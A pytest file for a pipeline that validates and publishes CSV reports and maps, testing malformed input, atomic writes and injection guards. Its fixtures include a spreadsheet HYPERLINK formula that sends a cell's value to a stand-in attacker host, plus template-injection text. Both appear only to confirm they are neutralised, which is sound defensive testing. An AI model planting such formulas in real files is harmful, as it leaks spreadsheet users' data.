"""Hostile and careless inputs (issue 17): no code from data, one clear line per bad input,
atomic publishing, inputs never overwritten, formula-safe spreadsheets."""

from __future__ import annotations

import csv
import json
import os
import shutil
import signal
import subprocess
import sys
import time
import warnings
from pathlib import Path

import pandas as pd
import pytest
from filelock import FileLock
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from typer.testing import CliRunner

from compoundmap import read_table
from compoundmap.cli import app
from compoundmap.errors import CompoundmapError, PipelineError, SourceValidationError
from compoundmap.pipeline import build, build_tables
from compoundmap.publish import MANIFEST_NAME, read_manifest
from compoundmap.schema import MAX_PEOPLE_COUNT, REPORTS_COLUMNS
from compoundmap.sources import default_sources_path, validate_sources
from compoundmap.writers import spreadsheet_safe

SOURCES = default_sources_path()
REGISTRY_FILES = ("compounds.csv", "operators.csv", "designations.csv")
runner = CliRunner()

TEMPLATE_TEXT = "Evil {{ 7*7 }} Park {% if true %}T{% endif %} {# c #} ${x} `tick`"
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def _rows(n: int) -> tuple[list[str], list[list[str]]]:
    with open(SOURCES, encoding="utf-8", newline="") as fh:
        rows = list(csv.reader(fh))
    return rows[0], rows[1 : n + 1]


def small_sources(folder: Path, n: int = 8, edit: dict[str, str] | None = None) -> Path:
    """The first ``n`` bundled reports (and the registry) in ``folder``; ``edit`` sets
    columns of the first row."""
    folder.mkdir(parents=True, exist_ok=True)
    header, rows = _rows(n)
    if edit:
        for col, value in edit.items():
            rows[0][header.index(col)] = value
    path = folder / "reports.csv"
    with open(path, "w", encoding="utf-8", newline="") as fh:
        csv.writer(fh).writerows([header, *rows])
    for name in REGISTRY_FILES:
        shutil.copy(SOURCES.parent / name, folder / name)
    return path


def one_row(tmp_path: Path, **values: str) -> Path:
    """A one-report file of the current schema with some values replaced."""
    return small_sources(tmp_path / "src", n=1, edit=values)


def problems(path: Path) -> list[str]:
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", UserWarning)
        return [str(p) for p in validate_sources(path).problems]


# --------------------------------------------------------------------------- bad inputs


@pytest.mark.parametrize(
    ("column", "value", "expected"),
    [
        ("victims_count", "1" + "0" * 23, f"more than {MAX_PEOPLE_COUNT:,} people"),
        ("victims_count", "9223372036854775807", f"more than {MAX_PEOPLE_COUNT:,} people"),
        ("victims_count", "１２", "write the digits as ASCII 0-9"),
        ("event_date", "２０２２", "write the digits as ASCII 0-9"),
        ("event_date", "٢٠٢٢-٠٣", "write the digits as ASCII 0-9"),
        ("source_url", "http://[::1", "not a well-formed http(s) URL (Invalid IPv6 URL)"),
        ("summary", "abc\x00def", "contains a NUL (U+0000) at character 4"),
        ("report_id", "CR-0001\u200b", "invisible character U+200B (ZERO WIDTH SPACE)"),
    ],
)
def test_bad_values_reject_the_row_with_one_clear_message(
    tmp_path: Path, column: str, value: str, expected: str
) -> None:
    path = one_row(tmp_path, **{column: value})
    found = problems(path)
    assert len(found) == 1 and expected in found[0] and f":2:{column}:" in found[0]


def test_look_alike_ids_are_duplicates(tmp_path: Path) -> None:
    header, rows = _rows(3)
    rows[1][0] = "ＣＲ-" + rows[0][0][3:]  # full-width copy of the first id
    rows[2][0] = rows[0][0].lower()
    path = tmp_path / "reports.csv"
    with open(path, "w", encoding="utf-8", newline="") as fh:
        csv.writer(fh).writerows([header, *rows])
    found = problems(path)
    assert [p.split(":")[1] for p in found] == ["3", "4"]
    assert all("duplicate report_id" in p and "first used on line 2" in p for p in found)


@pytest.mark.parametrize(
    ("content", "expected"),
    [
        (b"\xef\xbb\xbf", "file has no header row"),
        (b",,,,\n,,,\n", "file has no header row"),
        (b"REPORT_ID,COMPOUND_NAME\n", "column names are case-sensitive"),
        (";".join(REPORTS_COLUMNS).encode() + b"\n", "looks separated by semicolons"),
        (
            ",".join(REPORTS_COLUMNS).encode() + b'\nCR-1,"' + b"x" * 200_000 + b'"\n',
            "CSV field-size limit",
        ),
    ],
)
def test_bad_files_are_one_line_and_exit_1(tmp_path: Path, content: bytes, expected: str) -> None:
    if expected == "column names are case-sensitive":
        content = ",".join(c.upper() for c in REPORTS_COLUMNS).encode() + b"\n"
    path = tmp_path / "bad.csv"
    path.write_bytes(content)
    with pytest.raises(SourceValidationError) as info:
        validate_sources(path)
    assert len(info.value.problems) == 1 and expected in str(info.value)
    result = runner.invoke(app, ["validate", str(path)])
    assert result.exit_code == 1 and "Traceback" not in result.output
    assert expected in result.output


def test_unreadable_file_is_one_line(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    path = one_row(tmp_path)
    real_open = open

    def refuse(file: object, *args: object, **kwargs: object) -> object:
        if str(file) == str(path):
            raise PermissionError(13, "Permission denied", str(path))
        return real_open(file, *args, **kwargs)  # type: ignore[call-overload]

    monkeypatch.setattr("builtins.open", refuse)
    with pytest.raises(SourceValidationError, match="cannot read the file: Permission denied"):
        validate_sources(path)


def test_event_after_source_date_is_a_warning(tmp_path: Path) -> None:
    path = one_row(tmp_path, event_date="2024-05-01", source_date="2024-01-01")
    with pytest.warns(UserWarning, match="'2024-05-01' is after the source date '2024-01-01'"):
        report = validate_sources(path)
    assert report.ok


_CELL = st.text(alphabet='ab ,"\n;={}%#$`@+-0129៣\x00\u200b', max_size=12)


@settings(
    max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(
    header=st.lists(st.sampled_from([*REPORTS_COLUMNS, "x", ""]), min_size=1, max_size=34),
    rows=st.lists(st.lists(_CELL, max_size=34), max_size=4),
)
def test_any_csv_is_validated_or_refused_never_crashes(
    tmp_path: Path, header: list[str], rows: list[list[str]]
) -> None:
    path = tmp_path / "any.csv"
    with open(path, "w", encoding="utf-8", newline="") as fh:
        csv.writer(fh).writerows([header, *rows])
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", UserWarning)
        try:
            report = validate_sources(path)
        except SourceValidationError as exc:
            assert exc.problems and str(exc)
            return
    assert report.n_rows == len(report.valid) + len(report.rejects)


@settings(
    max_examples=12, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(
    values=st.dictionaries(
        st.sampled_from(
            [
                "victims_count",
                "event_date",
                "location_text",
                "compound_name",
                "latitude",
                "longitude",
                "count_kind",
                "summary",
                "source_url",
            ]
        ),
        _CELL,
        max_size=5,
    )
)
def test_any_report_row_builds_or_is_rejected(tmp_path: Path, values: dict[str, str]) -> None:
    path = small_sources(tmp_path / f"s{abs(hash(tuple(values.items())))}", n=2, edit=values)
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", UserWarning)
        try:
            tables = build_tables(path)
        except CompoundmapError:
            return
    assert len(tables.reports) + len(tables.rejects) == 2


# --------------------------------------------------------------------------- no code from data


@pytest.fixture(scope="module")
def hostile_build(tmp_path_factory: pytest.TempPathFactory) -> Path:
    base = tmp_path_factory.mktemp("hostile")
    path = small_sources(
        base / "src", n=6, edit={"source_title": TEMPLATE_TEXT, "summary": FORMULA}
    )
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", UserWarning)
        build(path, base / "processed", base / "maps")
    return base


def test_template_syntax_in_sources_stays_verbatim(hostile_build: Path) -> None:
    reports = read_table("reports", hostile_build / "processed")
    assert TEMPLATE_TEXT in set(reports["source_title"])
    page = (hostile_build / "maps" / "index.html").read_text(encoding="utf-8")
    assert "Evil 49 Park" not in page and "IFTRUE" not in page
    # the text reaches the page only as JSON data, verbatim once decoded
    decoded = "".join(
        json.dumps(json.loads(chunk.split(">", 1)[1].split("</script>", 1)[0]), ensure_ascii=False)
        for chunk in page.split('<script type="application/json"')[1:]
    )
    assert "Evil {{ 7*7 }} Park {% if true %}T{% endif %} {# c #} ${x}" in decoded


def test_formulas_are_neutralised_in_csv_and_raw_elsewhere(hostile_build: Path) -> None:
    processed = hostile_build / "processed"
    raw = pd.read_csv(processed / "reports.csv", dtype=str, keep_default_na=False)
    assert "'" + FORMULA in set(raw["summary"]) and FORMULA not in set(raw["summary"])
    assert FORMULA in set(read_table("reports", processed)["summary"])  # read back as written
    geo = json.loads((processed / "report_locations.geojson").read_text(encoding="utf-8"))
    assert geo["features"]  # GeoJSON keeps values as they are (no guard needed)


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "'=1", "''=1"])
def test_spreadsheet_guard_is_reversible(value: str) -> None:
    guarded = spreadsheet_safe(value)
    assert guarded.startswith("'") and guarded[1:] == value


# --------------------------------------------------------------------------- publishing


def test_outputs_never_overwrite_inputs(tmp_path: Path) -> None:
    path = small_sources(tmp_path / "src", n=2)
    with pytest.raises(PipelineError, match="would overwrite an input"):
        build(path, processed_dir=path.parent, maps=False)
    with pytest.raises(PipelineError, match="would overwrite an input"):
        build(path, processed_dir=tmp_path, maps=False)
    with pytest.raises(PipelineError, match="overlap"):
        build(path, processed_dir=tmp_path / "out", maps_dir=tmp_path / "out" / "maps")
    link = tmp_path / "link"
    link.symlink_to(tmp_path / "elsewhere", target_is_directory=True)
    with pytest.raises(PipelineError, match="is a symlink"):
        build(path, processed_dir=link, maps=False)


def test_a_folder_of_other_files_is_refused_and_unknown_files_kept(tmp_path: Path) -> None:
    path = small_sources(tmp_path / "src", n=2)
    foreign = tmp_path / "notes"
    foreign.mkdir()
    (foreign / "my_notes.txt").write_text("mine")
    with pytest.raises(PipelineError, match="not a compoundmap output folder"):
        build(path, processed_dir=foreign, maps=False)
    assert (foreign / "my_notes.txt").read_text() == "mine"
    out = tmp_path / "out"
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", UserWarning)
        build(path, processed_dir=out, maps=False)
        (out / "README.txt").write_text("kept")
        build(path, processed_dir=out, maps=False)
    assert (out / "README.txt").read_text() == "kept"
    assert "README.txt" not in read_manifest(out) and "reports.csv" in read_manifest(out)


def test_a_locked_folder_makes_the_build_stop_clearly(tmp_path: Path) -> None:
    path = small_sources(tmp_path / "src", n=2)
    out = tmp_path / "out"
    with FileLock(tmp_path / ".out.lock"):
        with pytest.raises(PipelineError, match="another compoundmap build is writing"):
            build(path, processed_dir=out, maps=False, wait=0.2)
    assert not out.exists()


def test_a_failed_write_leaves_the_previous_set(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = small_sources(tmp_path / "src", n=3)
    out = tmp_path / "out"
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", UserWarning)
        build(path, processed_dir=out, maps=False)
    before = {p.name: p.read_bytes() for p in out.iterdir() if p.is_file()}

    def boom(*args: object, **kwargs: object) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr("compoundmap.pipeline.write_gpkg", boom)
    with pytest.raises(OSError), warnings.catch_warnings():
        warnings.simplefilter("ignore", UserWarning)
        build(path, processed_dir=out, maps=False)
    after = {p.name: p.read_bytes() for p in out.iterdir() if p.is_file()}
    assert after == before
    assert not [p for p in tmp_path.iterdir() if ".staging-" in p.name]


def _complete(folder: Path) -> bool:
    """A published folder is complete: every file its manifest lists, with that hash."""
    import hashlib

    manifest = read_manifest(folder)
    return bool(manifest) and all(
        hashlib.sha256((folder / rel).read_bytes()).hexdigest() == digest
        for rel, digest in manifest.items()
    )


def test_killed_builds_leave_a_complete_set(tmp_path: Path) -> None:
    path = small_sources(tmp_path / "src", n=4)
    out = tmp_path / "out"
    command = [
        sys.executable,
        "-m",
        "compoundmap.cli",
        "build",
        "--sources",
        str(path),
        "--processed-dir",
        str(out),
        "--no-maps",
    ]
    env = {**os.environ, "PYTHONWARNINGS": "ignore"}
    subprocess.run(command, check=True, capture_output=True, env=env)
    assert _complete(out)
    for delay in (1.0, 2.5, 4.0, 6.0):
        proc = subprocess.Popen(
            command, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, env=env
        )
        time.sleep(delay)
        proc.send_signal(signal.SIGKILL)
        proc.wait()
        assert _complete(out), f"incomplete after a kill at {delay} s"
        assert (out / MANIFEST_NAME).is_file()


def test_cli_refuses_an_output_equal_to_its_input(tmp_path: Path) -> None:
    table = tmp_path / "places.csv"
    table.write_text("place\nPoipet\n", encoding="utf-8")
    result = runner.invoke(
        app, ["geocode", "--input", str(table), "--column", "place", "--output", str(table)]
    )
    assert result.exit_code == 2 and "is the input" in result.output
    assert table.read_text(encoding="utf-8") == "place\nPoipet\n"
